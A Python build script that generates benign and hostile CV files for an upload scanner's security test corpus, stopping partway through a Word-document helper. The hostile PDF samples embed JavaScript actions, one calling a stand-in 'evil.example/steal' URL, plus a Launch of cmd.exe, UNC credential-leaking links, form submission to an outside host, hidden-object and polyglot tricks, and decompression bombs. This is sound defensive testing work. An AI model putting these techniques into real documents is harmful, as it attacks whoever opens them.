"""Build the upload corpus: the files next to this script and MANIFEST.csv.

Run once from the project's folder, the files are committed:

    .venv/bin/python tests/security/upload_corpus/build.py

Each sample is a function registered with ``@sample(file name, verdict, error code, reason)``;
the manifest is written from the same registry, so every file has its reason.

Real-world samples come from real generators where this machine has one: pandoc (2.17, from
Debian) writes ``accept-pandoc-cv.docx`` and ``accept-pandoc-cv.odt`` from the Markdown CV
below, docutils' rst2odt writes ``accept-docutils-cv.odt``, Pillow writes the scanned CV's PDF.
These are only generated when missing (the tools need not be installed to rebuild the rest),
and most hostile Word and OpenDocument samples are those genuine files with one part changed:
a trick inside an ordinary CV. The PDFs are written with pikepdf (which writes compressed
object streams as recent Word and Acrobat do) or by hand when the structure itself is the
point (an object defined twice, an update without a cross-reference table).
"""

import csv
import io
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

HERE = Path(__file__).resolve().parent
SAMPLES: list[tuple[str, str, str, str, object]] = []


def sample(name: str, verdict: str, code: str, reason: str):
    assert verdict in ("accept", "refuse") and (code == "") == (verdict == "accept")

    def register(build):
        SAMPLES.append((name, verdict, code, reason, build))
        return build

    return register


# PDF helpers --------------------------------------------------------------------------------

CV_LINES = [
    "Camille Dufour",
    "Rue de la Station 12, 5000 Namur - camille.dufour@example.org",
    "Experience: coordinatrice benevole, groupe local de Namur (2021-2026)",
    "Formation: master en sciences politiques, UCLouvain (2018)",
    "Langues: francais, espagnol (C1), neerlandais (B2), anglais (B2)",
]
LINKEDIN = "https://www.linkedin.com/in/camille-dufour-example"


def page_text(lines=CV_LINES) -> bytes:
    out = [b"BT /F1 11 Tf 14 TL 72 770 Td"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        out.append(b"(" + escaped.encode("latin-1") + b") Tj T*")
    out.append(b"ET")
    return b"\n".join(out)


def cv_pdf(*, links=(), producer="Microsoft® Word pour Microsoft 365") -> pikepdf.Pdf:
    """A one-page CV: Helvetica, a text content stream, link annotations to ``links``."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            Encoding=Name.WinAnsiEncoding,
        )
    )
    page = pdf.add_blank_page(page_size=(595, 842))
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(page_text())
    annotations = Array()
    for index, target in enumerate(links):
        action = Dictionary(Type=Name.Action, S=Name.URI, URI=String(target))
        annotations.append(
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([72, 740 - 14 * index, 300, 752 - 14 * index]),
                    Border=Array([0, 0, 0]),
                    A=action,
                )
            )
        )
    if annotations:
        page.Annots = annotations
    pdf.docinfo[Name.Title] = String("CV Camille Dufour")
    pdf.docinfo[Name.Producer] = String(producer)
    return pdf


def saved(pdf: pikepdf.Pdf, *, object_streams: bool = True, **options) -> bytes:
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    options.setdefault("deterministic_id", "encryption" not in options)
    pdf.save(buffer, object_stream_mode=mode, **options)
    return buffer.getvalue()


def first_page(pdf):
    return pdf.pages[0].obj


def with_action(action: Dictionary, *, where: str = "open", object_streams: bool = True):
    """The CV with ``action`` run on opening (OpenAction), on the page's opening (page /AA), or
    on a link annotation's mouse-down (annotation /AA)."""
    pdf = cv_pdf(links=[LINKEDIN])
    action = pdf.make_indirect(action)
    if where == "open":
        pdf.Root.OpenAction = action
    elif where == "page":
        first_page(pdf).AA = Dictionary(O=action)
    elif where == "annotation":
        first_page(pdf).Annots[0].AA = Dictionary(D=action)
    elif where == "link":
        first_page(pdf).Annots[0].A = action
    return saved(pdf, object_streams=object_streams)


def assemble(objects: dict[int, bytes], *, version=b"1.7", between=b"", after=b"") -> bytes:
    """A PDF written by hand with a classic cross-reference table. ``between`` is written after
    the objects but outside the table; ``after`` after the end of the file."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    out += between
    size = max(objects) + 1
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 00000 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R/Info 2 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(out + after)


def stream(data: bytes, extra: bytes = b"", compress: bool = True) -> bytes:
    if compress:
        data = zlib.compress(data)
        extra += b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (extra, len(data), data)


def hand_cv(catalog_extra: bytes = b"", more: dict[int, bytes] | None = None) -> dict[int, bytes]:
    """The objects of a hand-written CV: 1 catalog, 2 info, 3 pages, 4 page, 5 content, 6 font."""
    objects = {
        1: b"<</Type/Catalog/Pages 3 0 R%s>>" % catalog_extra,
        2: b"<</Producer(Microsoft: Print To PDF)/Title(CV Camille Dufour)"
        b"/CreationDate(D:20260301101500+01'00')>>",
        3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 6 0 R>>"
        b"/ProcSet[/PDF/Text]>>/Contents 5 0 R>>",
        5: stream(page_text()),
        6: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
    }
    objects.update(more or {})
    return objects


# PDFs that pass -----------------------------------------------------------------------------


@sample(
    "accept-print-to-pdf.pdf",
    "accept",
    "",
    "As a PDF printer driver writes it: classic cross-reference table, Helvetica, a compressed "
    "content stream, and an OpenAction that is only a destination ([page /Fit]).",
)
def print_to_pdf():
    return assemble(hand_cv(b"/OpenAction[4 0 R/Fit]/PageLayout/SinglePage"))


@sample(
    "accept-word-export-tagged.pdf",
    "accept",
    "",
    "As Word's 'Save as PDF' writes it: tagged (structure tree, MarkInfo, Lang), XMP metadata, "
    "compressed object streams, and link annotations to LinkedIn and to an e-mail address "
    "(URI actions on links are normal in a CV).",
)
def word_export():
    pdf = cv_pdf(links=[LINKEDIN, "mailto:camille.dufour@example.org"])
    page = first_page(pdf)
    structure = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=Array()))
    paragraph = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, P=structure, Pg=page))
    structure.K.append(paragraph)
    pdf.Root.StructTreeRoot = structure
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    pdf.Root.Lang = String("fr-BE")
    pdf.Root.ViewerPreferences = Dictionary(DisplayDocTitle=True)
    with pdf.open_metadata(set_pikepdf_as_editor=False) as metadata:
        metadata["dc:title"] = "CV Camille Dufour"
        metadata["pdf:Producer"] = "Microsoft® Word pour Microsoft 365"
    return saved(pdf)


@sample(
    "accept-libreoffice-export.pdf",
    "accept",
    "",
    "As LibreOffice's PDF export writes it: outlines with destinations, an OpenAction "
    "destination [page /XYZ null null 0], PageMode UseOutlines, a web link.",
)
def libreoffice_export():
    pdf = cv_pdf(links=["https://camille-dufour.example.org/portfolio"], producer="LibreOffice 7.4")
    page = first_page(pdf)
    pdf.Root.OpenAction = Array([page, Name.XYZ, None, None, 0])
    pdf.Root.PageMode = Name.UseOutlines
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Expérience", 0))
        outline.root.append(pikepdf.OutlineItem("Formation", 0))
    return saved(pdf, object_streams=False)


@sample(
    "accept-latex-hyperref.pdf",
    "accept",
    "",
    "As pdfTeX with hyperref writes it: object streams, a named-destinations tree, outlines "
    "with GoTo actions to named destinations, page labels, internal GoTo links and a Named "
    "action (next page): actions that stay inside the document.",
)
def latex_hyperref():
    pdf = cv_pdf(links=[LINKEDIN], producer="pdfTeX-1.40.24")
    page = first_page(pdf)
    destinations = pikepdf.NameTree.new(pdf)
    destinations["section.1"] = Array([page, Name.Fit])
    pdf.Root.Names = Dictionary(Dests=destinations.obj)
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    pdf.Root.OpenAction = Array([page, Name.Fit])
    pdf.Root.PageMode = Name.UseOutlines
    goto = Dictionary(Type=Name.Action, S=Name.GoTo, D=String("section.1"))
    with pdf.open_outline() as outline:
        item = pikepdf.OutlineItem("Expérience", action=goto)
        outline.root.append(item)
    page.Annots.append(
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([72, 600, 200, 612]),
                A=Dictionary(S=Name.GoTo, D=String("section.1")),
            )
        )
    )
    page.Annots.append(
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([72, 580, 200, 592]),
                A=Dictionary(S=Name.Named, N=Name.NextPage),
            )
        )
    )
    return saved(pdf)


@sample(
    "accept-scanned-cv.pdf",
    "accept",
    "",
    "A scanned CV: one JPEG per page, as Pillow (and many scanner applications) write it.",
)
def scanned_cv():
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (620, 877), "white")
    draw = ImageDraw.Draw(image)
    for row, line in enumerate(CV_LINES):
        draw.text((60, 60 + 30 * row), line, fill="black")
    buffer = io.BytesIO()
    image.save(buffer, "PDF", resolution=75, quality=60, title="CV Camille Dufour")
    return buffer.getvalue()


@sample(
    "accept-owner-password-only.pdf",
    "accept",
    "",
    "Encrypted (AES-256) with an owner password only, to forbid editing: it opens without a "
    "password, so it can be inspected, and passes.",
)
def owner_password_only():
    pdf = cv_pdf(links=[LINKEDIN])
    encryption = pikepdf.Encryption(
        owner="proprietaire", user="", allow=pikepdf.Permissions(modify_other=False)
    )
    return saved(pdf, encryption=encryption)


@sample(
    "accept-incremental-update.pdf",
    "accept",
    "",
    "Edited after export (a sticky note added by a PDF reader): an incremental update with its "
    "own cross-reference section pointing back (/Prev) to the first.",
)
def incremental_update():
    base = assemble(hand_cv(b"/OpenAction[4 0 R/Fit]"))
    previous = int(re.search(rb"startxref\n(\d+)", base)[1])
    note = b"<</Type/Annot/Subtype/Text/Rect[400 700 420 720]/Contents(A relire)/Open false>>"
    page = (
        b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 6 0 R>>>>"
        b"/Contents 5 0 R/Annots[7 0 R]>>"
    )
    update = bytearray()
    offsets = {}
    for number, body in ((4, page), (7, note)):
        offsets[number] = len(base) + len(update)
        update += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(base) + len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \n7 1\n%010d 00000 n \n" % (
        offsets[4],
        offsets[7],
    )
    update += b"trailer\n<</Size 8/Root 1 0 R/Info 2 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        previous,
        start,
    )
    return base + bytes(update)


@sample(
    "accept-fillable-form.pdf",
    "accept",
    "",
    "A CV template with a fillable text field (AcroForm, widget annotation) and no action: "
    "a form that neither sends nor imports anything.",
)
def fillable_form():
    pdf = cv_pdf()
    page = first_page(pdf)
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("disponibilites"),
            V=String("Deux soirs par semaine"),
            Rect=Array([72, 500, 400, 520]),
            DA=String("/Helv 10 Tf 0 g"),
            P=page,
        )
    )
    page.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
    return saved(pdf)


@sample(
    "accept-linearized.pdf",
    "accept",
    "",
    "Linearized ('fast web view'), as Acrobat writes for the web: hint stream, first-page "
    "cross-reference section.",
)
def linearized():
    return saved(cv_pdf(links=[LINKEDIN]), object_streams=False, linearize=True)


@sample(
    "accept-link-without-scheme.pdf",
    "accept",
    "",
    "A link typed by hand without http:// (www.linkedin.com/...): still a web page.",
)
def link_without_scheme():
    return saved(cv_pdf(links=["www.linkedin.com/in/camille-dufour-example"]))


@sample(
    "accept-developer-text.pdf",
    "accept",
    "",
    "A developer's CV whose uncompressed text reads '(HTML/JavaScript, /JS, /Launch)': words "
    "in the page's text, not actions (the old byte search refused it).",
)
def developer_text():
    text = page_text(
        ["Skills: HTML/JavaScript, Node/JS", "(/JavaScript /JS /Launch /EmbeddedFile)"]
    )
    return assemble(hand_cv(b"/OpenAction[4 0 R/Fit]", {5: stream(text, compress=False)}))


# PDFs that are refused -----------------------------------------------------------------------


def javascript() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('CV');"))


@sample(
    "refuse-pdf-javascript-in-object-stream.pdf",
    "refuse",
    "pdf_javascript",
    "An OpenAction running JavaScript, stored in a compressed object stream: invisible to a "
    "byte search, found once the object stream is parsed.",
)
def javascript_in_object_stream():
    return with_action(javascript())


@sample(
    "refuse-pdf-javascript-name-tree.pdf",
    "refuse",
    "pdf_javascript",
    "A script in the document's JavaScript name tree (run when the document opens), in an "
    "object stream.",
)
def javascript_name_tree():
    pdf = cv_pdf(links=[LINKEDIN])
    scripts = pikepdf.NameTree.new(pdf)
    scripts["init"] = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print();")))
    pdf.Root.Names = Dictionary(JavaScript=scripts.obj)
    return saved(pdf)


@sample(
    "refuse-pdf-openaction-javascript.pdf",
    "refuse",
    "pdf_javascript",
    "An OpenAction that is a JavaScript action dictionary (not a destination), uncompressed.",
)
def openaction_javascript():
    return assemble(hand_cv(b"/OpenAction 7 0 R", {7: b"<</S/JavaScript/JS(app.alert(1))>>"}))


@sample(
    "refuse-pdf-javascript-stream.pdf",
    "refuse",
    "pdf_javascript",
    "The script kept in a compressed stream, the action in an object stream: neither the word "
    "nor the code appears in the file's bytes.",
)
def javascript_stream():
    pdf = cv_pdf()
    code = pdf.make_stream(b"app.launchURL('https://evil.example/steal', true);")
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=code))
    return saved(pdf)


@sample(
    "refuse-pdf-escaped-name.pdf",
    "refuse",
    "pdf_javascript",
    "'/S /J#61vaScript': the name written with a hex escape, which readers decode to "
    "/JavaScript (so does the parser).",
)
def escaped_name():
    return assemble(hand_cv(b"/OpenAction 7 0 R", {7: b"<</S/J#61vaScript/J#53(app.alert(1))>>"}))


@sample(
    "refuse-pdf-annotation-aa-javascript.pdf",
    "refuse",
    "pdf_javascript",
    "A link annotation's additional actions (/AA, mouse down) run JavaScript.",
)
def annotation_aa():
    return with_action(javascript(), where="annotation")


@sample(
    "refuse-pdf-page-aa-javascript.pdf",
    "refuse",
    "pdf_javascript",
    "The page's additional actions (/AA /O, on opening the page) run JavaScript.",
)
def page_aa():
    return with_action(javascript(), where="page")


@sample(
    "refuse-pdf-launch.pdf",
    "refuse",
    "pdf_launch",
    "A Launch action on opening, to start cmd.exe, in an object stream.",
)
def launch():
    return with_action(
        Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    )


@sample(
    "refuse-pdf-launch-on-link.pdf",
    "refuse",
    "pdf_launch",
    "A link that launches a file instead of opening a web page.",
)
def launch_link():
    return with_action(Dictionary(S=Name.Launch, F=String("payload.exe")), where="link")


@sample(
    "refuse-pdf-gotor.pdf",
    "refuse",
    "pdf_remote_document",
    "A remote go-to (GoToR) to a PDF on a network share: opening it sends the reader's "
    "Windows credentials to that server.",
)
def gotor():
    return with_action(
        Dictionary(
            S=Name.GoToR, F=String("\\\\evil.example\\share\\cv.pdf"), D=Array([0, Name.Fit])
        )
    )


@sample(
    "refuse-pdf-gotoe.pdf",
    "refuse",
    "pdf_remote_document",
    "An embedded go-to (GoToE): opens another document carried in or beside this one.",
)
def gotoe():
    return with_action(
        Dictionary(
            S=Name.GoToE, T=Dictionary(R=Name.C, N=String("annex.pdf")), D=Array([0, Name.Fit])
        )
    )


@sample(
    "refuse-pdf-url-file-specification.pdf",
    "refuse",
    "pdf_remote_document",
    "An article-thread action whose file specification is a URL (/FS /URL).",
)
def url_filespec():
    return with_action(
        Dictionary(
            S=Name.Thread,
            D=0,
            F=Dictionary(FS=Name.URL, F=String("https://evil.example/annex.pdf")),
        ),
        where="link",
    )


@sample(
    "refuse-pdf-submitform.pdf",
    "refuse",
    "pdf_form_data",
    "A form that submits its fields to an outside address on opening (SubmitForm).",
)
def submitform():
    return with_action(
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))
    )


@sample(
    "refuse-pdf-importdata.pdf",
    "refuse",
    "pdf_form_data",
    "An ImportData action that loads form data from another file.",
)
def importdata():
    return with_action(Dictionary(S=Name.ImportData, F=String("data.fdf")), where="link")


@sample(
    "refuse-pdf-richmedia.pdf",
    "refuse",
    "pdf_rich_media",
    "A RichMedia annotation (Flash-era multimedia that runs its own content).",
)
def richmedia():
    pdf = cv_pdf()
    first_page(pdf).Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.RichMedia,
                    Rect=Array([72, 400, 300, 600]),
                    RichMediaContent=Dictionary(Assets=Dictionary(Names=Array())),
                )
            )
        ]
    )
    return saved(pdf)


@sample(
    "refuse-pdf-rendition.pdf",
    "refuse",
    "pdf_rich_media",
    "A screen annotation and a Rendition action that plays a media clip on opening.",
)
def rendition():
    pdf = cv_pdf()
    screen = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([72, 400, 300, 600]))
    )
    first_page(pdf).Annots = Array([screen])
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Rendition, OP=0, AN=screen))
    return saved(pdf)


@sample(
    "refuse-pdf-3d.pdf",
    "refuse",
    "pdf_rich_media",
    "A 3D annotation (its stream can carry scripts of its own).",
)
def three_d():
    pdf = cv_pdf()
    model = pdf.make_stream(b"\x00" * 16, Type=Name("/3D"), Subtype=Name.U3D)
    first_page(pdf).Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    {
                        "/Type": Name.Annot,
                        "/Subtype": Name("/3D"),
                        "/Rect": Array([72, 400, 300, 600]),
                        "/3DD": model,
                    }
                )
            )
        ]
    )
    return saved(pdf)


@sample(
    "refuse-pdf-embedded-file.pdf",
    "refuse",
    "pdf_embedded_file",
    "Another file attached to the document (EmbeddedFiles name tree), here a program.",
)
def embedded_file():
    pdf = cv_pdf()
    pdf.attachments["annexe.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)
    return saved(pdf)


@sample(
    "refuse-pdf-file-attachment-annotation.pdf",
    "refuse",
    "pdf_embedded_file",
    "A file attached to a page through a FileAttachment annotation (the paperclip icon).",
)
def file_attachment_annotation():
    pdf = cv_pdf()
    spec = pikepdf.AttachedFileSpec(
        pdf, b"<html><script>alert(1)</script></html>", filename="x.html"
    )
    first_page(pdf).Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([400, 700, 420, 720]),
                    FS=spec.obj,
                )
            )
        ]
    )
    return saved(pdf)


@sample(
    "refuse-pdf-xfa.pdf",
    "refuse",
    "pdf_xfa",
    "An XFA form (Adobe's XML forms, scripted), in the AcroForm dictionary.",
)
def xfa():
    pdf = cv_pdf()
    template = pdf.make_stream(
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=template)
    return saved(pdf)


@sample(
    "refuse-pdf-link-javascript-uri.pdf",
    "refuse",
    "unsafe_link",
    "A link whose URI is 'javascript:...': not a web page.",
)
def javascript_uri():
    return saved(cv_pdf(links=["javascript:app.alert(1)"]))


@sample(
    "refuse-pdf-link-unc-path.pdf",
    "refuse",
    "unsafe_link",
    "A link to a network share (\\\\server\\share): clicking it sends Windows credentials.",
)
def unc_uri():
    return saved(cv_pdf(links=["\\\\evil.example\\share\\cv.docx"]))


@sample(
    "refuse-pdf-link-file-uri.pdf",
    "refuse",
    "unsafe_link",
    "A link to a local program (file:///C:/Windows/System32/cmd.exe): clicking it starts the "
    "program, it is no web page.",
)
def file_uri():
    return saved(cv_pdf(links=["file:///C:/Windows/System32/cmd.exe"]))


@sample(
    "refuse-pdf-user-password.pdf",
    "refuse",
    "pdf_encrypted",
    "Needs a password to open: it cannot be inspected, so it is refused with a clear message.",
)
def user_password():
    encryption = pikepdf.Encryption(owner="proprietaire", user="secret")
    return saved(cv_pdf(), encryption=encryption)


@sample(
    "refuse-pdf-damaged.pdf",
    "refuse",
    "pdf_damaged",
    "Starts like a PDF but has no readable structure (no objects, no trailer).",
)
def damaged():
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


@sample(
    "refuse-pdf-corrupt-object-stream.pdf",
    "refuse",
    "pdf_damaged",
    "An object stream whose header is broken: its objects (here a JavaScript action) cannot be "
    "read by the parser, though a lenient reader might read them.",
)
def corrupt_object_stream():
    content = with_action(javascript())
    # The object stream's /First (where the first object starts) made to point past its end.
    return re.sub(rb"/First \d+", lambda match: b"/First 99".ljust(len(match[0])), content, count=1)


def assemble_object_streams(objects: dict[int, bytes], groups: list[list[int]], padding=b""):
    """A PDF 1.5 written by hand: the objects of each group in a compressed object stream (with
    ``padding`` after them), a cross-reference stream."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    in_streams = {number for group in groups for number in group}
    entries = {}
    next_number = max(objects) + 1
    for number in sorted(set(objects) - in_streams):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    for group in groups:
        header, body = [], bytearray()
        for index, number in enumerate(group):
            header.append(b"%d %d" % (number, len(body)))
            body += objects[number] + b"\n"
            entries[number] = (2, next_number, index)
        head = b" ".join(header) + b"\n"
        data = zlib.compress(head + bytes(body) + padding, 9)
        entries[next_number] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
            % (
                next_number,
                len(group),
                len(head),
                len(data),
            )
        )
        out += data + b"\nendstream\nendobj\n"
        next_number += 1
    xref_number = next_number
    entries[xref_number] = (1, len(out), 0)
    rows = bytearray(b"\x00\x00\x00\x00\xff\xff")
    for number in range(1, xref_number + 1):
        kind, field_2, field_3 = entries.get(number, (0, 0, 0))
        rows += bytes([kind]) + field_2.to_bytes(4, "big") + field_3.to_bytes(1, "big")
    data = zlib.compress(bytes(rows))
    start = len(out)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Info 2 0 R/Filter/FlateDecode"
        b"/Length %d>>\nstream\n" % (xref_number, xref_number + 1, len(data))
    )
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


@sample(
    "accept-hand-written-object-streams.pdf",
    "accept",
    "",
    "Every object but the content stream in compressed object streams, with a cross-reference "
    "stream (PDF 1.5+, as Acrobat and recent Word write): nothing to refuse once parsed.",
)
def hand_written_object_streams():
    return assemble_object_streams(hand_cv(b"/OpenAction[4 0 R/Fit]"), [[1, 2, 3], [4, 6]])


@sample(
    "refuse-pdf-object-stream-bomb.pdf",
    "refuse",
    "pdf_too_complex",
    "Three object streams of a few kilobytes that decompress to 12 MB each: refused on their "
    "total before the parser reads the objects inside.",
)
def object_stream_bomb():
    return assemble_object_streams(
        hand_cv(b"/OpenAction[4 0 R/Fit]"),
        [[1, 2], [3, 4], [6]],
        padding=b" " * (12 * 1024 * 1024),
    )


@sample(
    "refuse-pdf-flate-bomb.pdf",
    "refuse",
    "pdf_damaged",
    "One object stream that decompresses to 100 MB: the parser stops at its memory limit, so "
    "the objects inside cannot be read.",
)
def flate_bomb():
    return assemble_object_streams(
        hand_cv(b"/OpenAction[4 0 R/Fit]"), [[1, 2, 3, 4, 6]], padding=b" " * (100 * 1024 * 1024)
    )


@sample(
    "refuse-pdf-unparseable-action.pdf",
    "refuse",
    "pdf_damaged",
    "The OpenAction's dictionary lacks its closing '>>': the parser gives up on it, a lenient "
    "reader might still run the JavaScript inside.",
)
def unparseable_action():
    return assemble(hand_cv(b"/OpenAction 7 0 R", {7: b"<</S/JavaScript/JS(app.alert(1))"}))


@sample(
    "refuse-pdf-shadowed-object.pdf",
    "refuse",
    "pdf_javascript",
    "Object 7 defined twice: the cross-reference table points to a harmless GoTo, a second "
    "definition further on (which a reader repairing the file uses) runs JavaScript.",
)
def shadowed_object():
    harmless = b"<</S/GoTo/D[4 0 R/Fit]>>"
    shadow = b"7 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"
    return assemble(hand_cv(b"/OpenAction 7 0 R", {7: harmless}), between=shadow)


@sample(
    "refuse-pdf-update-without-xref.pdf",
    "refuse",
    "pdf_javascript",
    "An update appended after %%EOF without a cross-reference section: a new catalog whose "
    "OpenAction runs JavaScript, seen by readers that rebuild the table.",
)
def update_without_xref():
    base = assemble(hand_cv(b"/OpenAction[4 0 R/Fit]"))
    update = (
        b"1 0 obj\n<</Type/Catalog/Pages 3 0 R/OpenAction 9 0 R>>\nendobj\n"
        b"9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n%%EOF\n"
    )
    return base + update


@sample(
    "refuse-pdf-html-polyglot.pdf",
    "refuse",
    "html",
    "A PDF that is also a web page: HTML with a script in its first bytes, for a browser that "
    "would sniff it.",
)
def html_polyglot():
    content = saved(cv_pdf())
    html = b"%<html><body><script>fetch('/admin/').then(r=>r.text())</script></body></html>\n"
    return content.replace(b"\n", b"\n" + html, 1)


@sample(
    "refuse-pdf-zip-polyglot.pdf",
    "refuse",
    "pdf_polyglot",
    "A PDF followed by a zip archive holding a program (a file that is both).",
)
def zip_polyglot():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return saved(cv_pdf()) + buffer.getvalue()


@sample(
    "refuse-executable-as-pdf.pdf",
    "refuse",
    "executable",
    "A Windows program renamed .pdf: the bytes say it is an executable, not a document.",
)
def executable_as_pdf():
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program"


@sample(
    "refuse-html-as-pdf.pdf",
    "refuse",
    "html",
    "A web page with a script renamed .pdf: a browser sniffing it would run the script.",
)
def html_as_pdf():
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


# Word documents -----------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PANDOC_CV = """---
title: Camille Dufour
author: Camille Dufour
lang: fr-BE
---

![Photo](photo.png){width=2cm}

Rue de la Station 12, 5000 Namur · <camille.dufour@example.org> ·
[LinkedIn](https://www.linkedin.com/in/camille-dufour-example)

# Expérience

**Coordinatrice bénévole**, groupe local de Namur (2021–2026)

- Organisation de trois campagnes de signatures et d'une soirée ciné-débat.
- Suivi des actions urgentes pour la coordination Mexique.

**Chargée de communication**, ASBL Lire et Écrire (2018–2021)

# Formation

| Année | Diplôme | Établissement |
|------:|---------|---------------|
| 2018 | Master en sciences politiques | UCLouvain |
| 2015 | Bachelier en droit | Université de Namur |

# Langues

Français (langue maternelle), espagnol (C1), néerlandais (B2), anglais (B2).

Voir aussi mon portfolio : <https://camille-dufour.example.org/portfolio>.
"""


def photo_png() -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (96, 120), (214, 226, 240))
    draw = ImageDraw.Draw(image)
    draw.ellipse((28, 18, 68, 58), fill=(120, 140, 170))
    draw.rectangle((18, 66, 78, 120), fill=(120, 140, 170))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def generated(name: str, command) -> bytes:
    """A genuine file from an outside tool, made once: kept if it exists, else generated."""
    path = HERE / name
    if not path.exists():
        with tempfile.TemporaryDirectory() as folder:
            folder = Path(folder)
            (folder / "photo.png").write_bytes(photo_png())
            path.write_bytes(command(folder).read_bytes())
    return path.read_bytes()


def pandoc(extension: str):
    def command(folder: Path) -> Path:
        if not shutil.which("pandoc"):
            sys.exit("pandoc is needed once to make the genuine samples (apt-get install pandoc)")
        (folder / "cv.md").write_text(PANDOC_CV, encoding="utf-8")
        subprocess.run(["pandoc", "cv.md", "-o", f"cv.{extension}"], cwd=folder, check=True)
        return folder / f"cv.{extension}"

    return command


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(entries: dict[str, bytes], *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            compress = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 1, 10, 15, 0)), data, compress)
    return buffer.getvalue()


def pandoc_docx() -> dict[str, bytes]:
    return parts(generated("accept-pandoc-cv.docx", pandoc("docx")))


def add_relationship(
    entries, rels: str, kind: str, target: str, external: bool = True, rid="rId90"
):
